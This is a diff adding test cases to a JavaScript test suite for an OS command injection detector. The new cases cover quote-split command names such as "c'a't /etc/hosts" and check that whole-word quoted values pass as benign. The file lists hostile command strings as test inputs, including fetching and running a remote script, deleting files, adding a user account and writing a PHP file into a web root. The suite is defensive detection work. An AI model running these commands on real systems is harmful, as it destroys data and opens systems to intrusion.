@@ -23,6 +23,14 @@ describe('OS command injection detector', () => {
   ];
   for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
 
+  describe('quotes that split a command name, and quotes around a whole word', () => {
+    const attacks = ["c'a't /etc/hosts", '"wh"oami', "who''ami", 'l"s" -la', '"t"rue;'];
+    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
+    // one pair of quotes around the whole word quotes it; it does not disguise it
+    const benign = ['"FALSE"', "'true'", '"Yes"', 'size "TRUE" to fit'];
+    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
+  });
+
   describe('a sentence that opens with a word that is also a command', () => {
     const attacks = ['find / -name secret files -delete', 'net user guest s3cret /add', 'open https://203.0.113.9/x.sh; sh x.sh',
       'cat /etc/hosts now', 'find /var/www and more -exec rm {} +', 'echo hello world > /var/www/x.php', 'cat notes >> ./out.txt'];
